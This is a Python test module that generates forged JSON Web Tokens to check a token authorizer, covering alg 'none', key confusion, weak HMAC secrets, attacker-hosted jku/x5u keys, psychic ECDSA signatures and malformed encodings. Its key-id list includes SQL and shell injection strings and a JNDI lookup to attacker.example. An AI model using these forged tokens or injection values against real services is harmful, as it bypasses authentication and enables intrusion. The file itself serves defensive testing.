"""Forged tokens by name: the attacks of public lists, each in several spellings.

Sources: RFC 8725 (JSON Web Token Best Current Practices); OWASP, "JSON Web Token for Java Cheat Sheet" and "Testing
JSON Web Tokens"; PortSwigger, "JWT attacks"; github.com/ticarpi/jwt_tool, "Attack Methodology"; CVE-2015-9235 (none),
CVE-2016-5431 and CVE-2016-10555 (key confusion), CVE-2018-0114 (embedded key), CVE-2022-21449 (psychic signatures),
CVE-2022-23529 and CVE-2024-54663 (key ids), CVE-2020-28042 (null signature), CVE-2024-33663 (key confusion with ECDSA).
"""

import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import Iterator
from typing import Any, Final

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

from tests.lambdas.authorizer.helpers import (
    EC_KEY,
    OTHER_EC_KEY,
    OTHER_RSA_KEY,
    RSA_KEY,
    PrivateKey,
    claims,
    encode,
    public_jwk,
    sign,
)

P256_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ADMIN: Final = claims(sub="admin", groups=["admins"])
HS_HASHES: Final = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
KEY_IDS: Final = (
    "../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    "rsa-1' UNION SELECT 'secret",
    "' OR '1'='1",
    "rsa-1; ls",
    "rsa-1\x00",
    "rsa-1 ",
    " rsa-1",
    "RSA-1",
    "rsa-1\n",
    "",
    "https://attacker.example/key",
    "__proto__",
    "constructor",
    "*",
    "rsa-1|id",
    "$(id)",
    "${jndi:ldap://attacker.example/a}",
    "a" * 10_000,
    "\ud83d\ude00",
    "%00",
    "..",
    "ec-1,rsa-1",
)


def attacks() -> Iterator[tuple[str, str]]:
    """Yield each forged token with its name. None of them was signed by the issuer as it stands."""
    for group in (
        _none,
        _public_key_as_secret,
        _weak_secrets,
        _embedded_keys,
        _key_ids,
        _other_algorithms,
        _signatures,
        _ecdsa_signatures,
        _changed_tokens,
        _forms,
        _json,
        _headers,
    ):
        for name, token in group():
            yield f"{group.__name__.strip('_')}: {name}", token


def _unsigned(header: dict[str, Any], body: object = ADMIN) -> str:
    return f"{encode(header)}.{encode(body)}"


def _none() -> Iterator[tuple[str, str]]:
    spellings = {"".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")}
    for algorithm in [
        *sorted(spellings),
        "none ",
        " none",
        "none\x00",
        "nonE\u200b",
        "",
        "null",
        "NONE256",
        "\u217cone",
    ]:
        for signature in ("", "AA"):
            header = {"alg": algorithm, "typ": "JWT", "kid": "rsa-1"}
            yield f"{algorithm!r} with {signature!r}", f"{_unsigned(header)}.{signature}"


def _public_keys() -> dict[str, bytes]:
    found = {}
    for name, key in (("rsa-1", RSA_KEY), ("ec-1", EC_KEY)):
        public, formats = key.public_key(), serialization.PublicFormat
        pem = public.public_bytes(serialization.Encoding.PEM, formats.SubjectPublicKeyInfo)
        found[f"{name} pem"] = pem
        found[f"{name} pem without its last line break"] = pem.rstrip()
        found[f"{name} pem with carriage returns"] = pem.replace(b"\n", b"\r\n")
        found[f"{name} der"] = public.public_bytes(serialization.Encoding.DER, formats.SubjectPublicKeyInfo)
        found[f"{name} jwk"] = json.dumps(public_jwk(key, name)).encode()
    numbers = RSA_KEY.public_key().public_numbers()
    found["rsa-1 modulus"] = numbers.n.to_bytes(256, "big")
    return found


def _hmac(header: dict[str, Any], secret: bytes) -> str:
    signed = _unsigned(header)
    digest = HS_HASHES.get(str(header["alg"]), hashlib.sha256)
    return f"{signed}.{encode(hmac.new(secret, signed.encode(), digest).digest())}"


def _public_key_as_secret() -> Iterator[tuple[str, str]]:
    for name, secret in _public_keys().items():
        for algorithm in (*HS_HASHES, "RS256", "ES256"):
            header = {"alg": algorithm, "typ": "JWT", "kid": name.partition(" ")[0]}
            yield f"{algorithm} {name}", _hmac(header, secret)


def _weak_secrets() -> Iterator[tuple[str, str]]:
    for secret in (b"", b"secret", b"\x00", b"password", b"rsa-1", b"none"):
        for algorithm in HS_HASHES:
            yield f"{algorithm} {secret!r}", _hmac({"alg": algorithm, "typ": "JWT", "kid": "rsa-1"}, secret)


def _embedded_keys() -> Iterator[tuple[str, str]]:
    for key, algorithm, kid in ((OTHER_RSA_KEY, "RS256", "rsa-1"), (OTHER_EC_KEY, "ES256", "ec-1")):
        own = public_jwk(key, kid)
        for used in (kid, "attacker"):
            headers: dict[str, dict[str, Any]] = {
                "jwk": {"jwk": own},
                "jku": {"jku": "https://attacker.example/jwks.json"},
                "jku at the issuer": {"jku": "https://login.example.com/tenant/../../attacker/jwks.json"},
                "jku with user": {"jku": "https://login.example.com@attacker.example/jwks.json"},
                "x5u": {"x5u": "https://attacker.example/cert.pem"},
                "x5c": {"x5c": [base64.b64encode(b"certificate").decode()]},
                "jwk and jku": {"jwk": own, "jku": "https://attacker.example/jwks.json"},
            }
            for name, header in headers.items():
                yield f"{algorithm} {name} as {used}", sign(ADMIN, key=key, algorithm=algorithm, kid=used, **header)
        yield f"{algorithm} jwk without kid", sign(ADMIN, key=key, algorithm=algorithm, kid=None, jwk=own)


def _key_ids() -> Iterator[tuple[str, str]]:
    for kid in KEY_IDS:
        yield f"{kid[:30]!r} by an attacker", sign(ADMIN, key=OTHER_RSA_KEY, kid=kid)
        yield f"{kid[:30]!r} with an empty secret", _hmac({"alg": "HS256", "typ": "JWT", "kid": kid}, b"")
    for odd in (1, None, True, ["rsa-1"], {"kid": "rsa-1"}, 1.5):
        yield f"kid is {odd!r}", f"{_unsigned({'alg': 'RS256', 'kid': odd})}.{encode(b'x' * 256)}"


def _rs(key: Any, signed: str, hash_: hashes.HashAlgorithm) -> str:  # noqa: ANN401 - an RSA key
    return encode(key.sign(signed.encode(), padding.PKCS1v15(), hash_))


def _other_algorithms() -> Iterator[tuple[str, str]]:
    """The issuer's own key, for algorithms that it does not use: this would need its private key."""
    for algorithm, hash_ in (("RS384", hashes.SHA384()), ("RS512", hashes.SHA512())):
        signed = _unsigned({"alg": algorithm, "kid": "rsa-1"})
        yield f"{algorithm} of the issuer's key", f"{signed}.{_rs(RSA_KEY, signed, hash_)}"
    signed = _unsigned({"alg": "PS256", "kid": "rsa-1"})
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    yield "PS256 of the issuer's key", f"{signed}.{encode(RSA_KEY.sign(signed.encode(), pss, hashes.SHA256()))}"
    for algorithm in (
        "rs256",
        "Rs256",
        "RS256 ",
        "ES256K",
        "EdDSA",
        "ES384",
        "ES512",
        "RSA-OAEP",
        "dir",
        "A256KW",
        "HS1",
    ):
        signed = _unsigned({"alg": algorithm, "kid": "rsa-1"})
        yield f"{algorithm!r} with an RS256 signature", f"{signed}.{_rs(RSA_KEY, signed, hashes.SHA256())}"
    signed = _unsigned({"alg": "ES256", "kid": "rsa-1"})
    yield "ES256 for the RSA key", f"{signed}.{_rs(RSA_KEY, signed, hashes.SHA256())}"
    yield "ES256 for the RSA key, by an attacker", sign(ADMIN, key=OTHER_EC_KEY, algorithm="ES256", kid="rsa-1")
    yield "RS256 for the EC key, by an attacker", sign(ADMIN, key=OTHER_RSA_KEY, kid="ec-1")
    for odd in (None, 1, True, ["RS256"], {"alg": "RS256"}):
        yield f"alg is {odd!r}", f"{_unsigned({'alg': odd, 'kid': 'rsa-1'})}.{encode(b'x' * 256)}"
    yield "no alg", f"{_unsigned({'kid': 'rsa-1'})}.{encode(b'x' * 256)}"


def _signatures() -> Iterator[tuple[str, str]]:
    signed, _, own = sign(claims()).rpartition(".")
    raw = base64.urlsafe_b64decode(own + "==")
    for name, forged in {
        "zeros": bytes(256),
        "ones": b"\xff" * 256,
        "one byte": b"\x00",
        "cut": raw[:-1],
        "longer": raw + b"\x00",
        "leading zero": b"\x00" + raw,
        "twice": raw * 2,
        "reversed": raw[::-1],
        "last bit": raw[:-1] + bytes([raw[-1] ^ 1]),
        "first bit": bytes([raw[0] ^ 128]) + raw[1:],
        "the number 1": (1).to_bytes(256, "big"),
        "the digest": hashlib.sha256(signed.encode()).digest(),
        "the modulus": RSA_KEY.public_key().public_numbers().n.to_bytes(256, "big"),
    }.items():
        yield name, f"{signed}.{encode(forged)}"
    yield "absent", f"{signed}."
    yield "of another key", sign(claims(), key=OTHER_RSA_KEY)
    yield "of another token", f"{sign(ADMIN).rpartition('.')[0]}.{own}"


def _ecdsa_signatures() -> Iterator[tuple[str, str]]:
    signed, _, own = sign(claims(), key=EC_KEY, algorithm="ES256", kid="ec-1").rpartition(".")
    raw = base64.urlsafe_b64decode(own + "==")
    half, n = len(raw) // 2, P256_ORDER
    edges = (0, 1, n - 1, n, n + 1, 2**256 - 1)
    for r, s in itertools.product(edges, edges):
        yield (
            f"psychic {r % 7}{s % 7} {edges.index(r)} {edges.index(s)}",
            (f"{signed}.{encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"),
        )
    r, s = (int.from_bytes(part, "big") for part in (raw[:half], raw[half:]))
    yield "in DER", f"{signed}.{encode(encode_dss_signature(r, s))}"
    yield "swapped", f"{signed}.{encode(raw[half:] + raw[:half])}"
    yield "r alone", f"{signed}.{encode(raw[:half])}"
    yield "empty", f"{signed}."
    yield "of another key", sign(ADMIN, key=OTHER_EC_KEY, algorithm="ES256", kid="ec-1")
    key384 = ec.generate_private_key(ec.SECP384R1())
    r, s = decode_dss_signature(key384.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
    yield "of another curve", f"{signed}.{encode(r.to_bytes(48, 'big') + s.to_bytes(48, 'big'))}"


def _changed_tokens() -> Iterator[tuple[str, str]]:
    for key, algorithm, kid in ((RSA_KEY, "RS256", "rsa-1"), (EC_KEY, "ES256", "ec-1")):
        header, _, signature = sign(claims(), key=key, algorithm=algorithm, kid=kid).split(".")
        for name, body in {
            "another subject": claims(sub="admin"),
            "more claims": claims(groups=["admins"]),
            "a later end": claims(exp=9_999_999_999),
            "another audience": claims(aud="x"),
            "empty": {},
        }.items():
            yield f"{algorithm} {name}", f"{header}.{encode(body)}.{signature}"
        other = encode({"alg": algorithm, "kid": kid, "typ": "JWT"})
        yield f"{algorithm} another header", f"{other}.{encode(claims())}.{signature}"


def _forms() -> Iterator[tuple[str, str]]:
    good = sign(claims())
    header, body, signature = good.split(".")
    yield from {
        "empty": "",
        "dots": "..",
        "one part": header,
        "two parts": f"{header}.{body}",
        "four parts": f"{good}.{signature}",
        "no header": f".{body}.{signature}",
        "no body": f"{header}..{signature}",
        "padding": f"{good}==",
        "padding in the header": f"{header}=.{body}.{signature}",
        "a blank": f"{header}.{body} .{signature}",
        "a line break": f"{header}.{body}\n.{signature}",
        "a null": f"{good}\x00",
        "url-encoded": good.replace(".", "%2E"),
        "plus and slash": good.replace("-", "+").replace("_", "/") + "+/",
        "cut": good[:-20],
        "cut at a dot": f"{header}.",
        "twice": f"{good}.{good}",
        "quoted": f'"{good}"',
        "encrypted": f"{header}.{body}.{signature}.{body}.{signature}",
        "not base64": "!.!.!",
        "unicode dots": good.replace(".", "\uff0e"),
        "comma": f"{good},{good}",
        "json": json.dumps({"protected": header, "payload": body, "signature": signature}),
        "another spelling of the last bits": good[:-1] + chr(ord(good[-1]) + 1),
        "huge": "a" * 100_000,
        "many dots": "." * 8_000,
        "gzip": f"{encode({'alg': 'RS256', 'zip': 'DEF', 'kid': 'rsa-1'})}.{body}.{signature}",
    }.items()


def _json() -> Iterator[tuple[str, str]]:
    _, body, signature = sign(claims()).split(".")
    for name, text in {
        "two algorithms": '{"alg":"none","alg":"RS256","kid":"rsa-1"}',
        "two key ids": '{"alg":"RS256","kid":"x","kid":"rsa-1"}',
        "an array": "[]",
        "a text": '"RS256"',
        "a number": "1",
        "null": "null",
        "true": "true",
        "nothing": " ",
        "deep": '{"alg":' + "[" * 3_000 + "]" * 3_000 + "}",
        "NaN": '{"alg":"RS256","kid":"rsa-1","x":NaN}',
        "infinity": '{"alg":"RS256","kid":"rsa-1","x":Infinity}',
        "huge number": '{"alg":"RS256","x":' + "9" * 5_000 + "}",
        "exponent": '{"alg":"RS256","kid":"rsa-1","x":1e999999}',
        "trailing comma": '{"alg":"RS256",}',
        "single quotes": "{'alg':'RS256'}",
        "comment": '{"alg":"RS256"/*x*/}',
        "byte order mark": '\ufeff{"alg":"RS256"}',
        "surrogate": '{"alg":"RS256","kid":"\\ud800"}',
        "null in a name": '{"al\\u0000g":"RS256"}',
        "capitals": '{"ALG":"RS256"}',
    }.items():
        yield f"header: {name}", f"{encode(text)}.{body}.{signature}"
        yield f"claims: {name}", f"{encode({'alg': 'RS256', 'kid': 'rsa-1'})}.{encode(text)}.{signature}"
    yield "header: not utf-8", f"{encode(bytes([0xFF, 0xFE]))}.{body}.{signature}"
    yield "header: utf-16", f"{encode(json.dumps({'alg': 'RS256'}).encode('utf-16'))}.{body}.{signature}"


def _headers() -> Iterator[tuple[str, str]]:
    """Headers with which even the issuer's own signature is refused."""
    headers: dict[str, dict[str, Any]] = {
        "crit": {"crit": ["exp"]},
        "unknown crit": {"crit": ["x"], "x": 1},
        "empty crit": {"crit": []},
        "unencoded": {"b64": False, "crit": ["b64"]},
        "b64 alone": {"b64": True},
        "zip": {"zip": "DEF"},
        "logout": {"typ": "logout+jwt"},
        "event": {"typ": "secevent+jwt"},
        "proof": {"typ": "dpop+jwt"},
        "odd type": {"typ": "JOSE"},
        "encrypted": {"typ": "JWE"},
    }
    for name, header in headers.items():
        yield name, _signed_by_hand(RSA_KEY, {"alg": "RS256", "kid": "rsa-1", **header})


def _signed_by_hand(key: PrivateKey, header: dict[str, Any]) -> str:
    signed = _unsigned(header, claims())
    return f"{signed}.{_rs(key, signed, hashes.SHA256())}"
